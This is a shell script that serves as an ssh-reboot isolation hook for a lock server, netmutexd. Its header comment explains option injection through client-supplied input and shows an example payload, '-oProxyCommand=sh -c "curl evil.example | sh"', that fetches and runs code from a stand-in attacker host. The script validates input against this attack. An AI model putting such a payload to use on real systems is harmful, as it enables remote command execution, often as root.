#!/bin/sh
# netmutex-isolate: an isolation command for netmutexd that reboots the isolated
# client's host over ssh. Install it and start the server with
#
#	netmutexd -isolate-cmd /usr/local/bin/netmutex-isolate
#
# The server runs it (under /bin/sh -c) when a lock's TTL ran out while its session still
# existed: that client is considered broken, and its keys stay unavailable until this
# command has exited (or -isolate-timeout killed it). The client's IsolationInfo arrives
# on standard input, and only there; NETMUTEX_SESSION holds the session id, in hex.
#
# IsolationInfo is whatever the client sent: treat it as hostile. NEVER interpolate it
# into a command line, as in
#
#	-isolate-cmd 'ssh "$(cat)" reboot'        # UNSAFE
#
# The quotes keep it one word, but ssh still reads that word as an option when it
# starts with '-': an IsolationInfo of
#
#	-oProxyCommand=sh -c "curl evil.example | sh"
#
# makes ssh run the attacker's command, as the server's user (often root). eval, sh -c
# "... $info ...", xargs and unquoted expansions are worse. This script instead
#
#	1. reads stdin into a variable (the server caps IsolationInfo at 400 bytes);
#	2. takes the host name from a "Hostname: NAME" line (the README's example
#	   IsolationInfo is "Hostname: %s\nPid: %d"), or the whole info if it has none;
#	3. refuses anything but a plain host name: letters, digits, '.', '-', not starting
#	   with '-' or '.', at most 253 bytes; no spaces, quotes, '$', ';', '@', newlines;
#	4. passes it as a single argument after "--", so that ssh can never take it for an
#	   option even if the check above were loosened.
#
# NETMUTEX_ISOLATE_DRY_RUN=1 prints the command instead of running it (for testing).
# A non-zero exit is logged by the server as a failed isolation; the keys are released
# all the same once the command has ended.

set -eu

info=$(cat)

# The first "Hostname: " line, else the whole info (without its trailing newline).
host=$(printf '%s\n' "$info" | sed -n 's/^Hostname: *//p' | sed -n 1p)
if [ -z "$host" ]; then
	host=$info
fi

case $host in
'' | -* | .* | *[!A-Za-z0-9.-]*)
	echo "netmutex-isolate: session ${NETMUTEX_SESSION:-?}: refusing IsolationInfo: not a plain host name" >&2
	exit 2
	;;
esac
if [ ${#host} -gt 253 ]; then
	echo "netmutex-isolate: session ${NETMUTEX_SESSION:-?}: refusing IsolationInfo: host name too long" >&2
	exit 2
fi

echo "netmutex-isolate: session ${NETMUTEX_SESSION:-?}: rebooting $host"
if [ "${NETMUTEX_ISOLATE_DRY_RUN:-}" = 1 ]; then
	printf '%s\n' "dry run: ssh -o BatchMode=yes -o ConnectTimeout=5 -- $host reboot"
	exit 0
fi
# The remote user (root, or one allowed to reboot) comes from ~/.ssh/config, not from
# the client: '@' is refused above.
exec ssh -o BatchMode=yes -o ConnectTimeout=5 -- "$host" reboot
